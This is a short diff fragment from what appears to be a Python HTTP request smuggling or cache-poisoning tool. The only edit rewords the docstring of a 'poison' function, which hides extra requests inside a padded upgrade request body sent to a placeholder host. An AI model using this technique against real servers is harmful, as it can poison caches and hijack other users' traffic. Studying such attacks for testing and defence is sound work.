@@ -65,7 +65,7 @@ def slow(correlation: str) -> bytes:
 
 
 def poison(target: Target, protocol: str, *concealed: bytes) -> None:
-    """Send a request for an upgrade whose body has other requests, and hear its own answer."""
+    """Send an upgrade request whose body contains other requests, and read its own response."""
     body = b"\r\n" * (PADDING // 2) + b"".join(concealed)
     head = (
         f"POST {REFRESH} HTTP/1.1\r\nHost: id.example.com\r\nContent-Type: application/json\r\n"
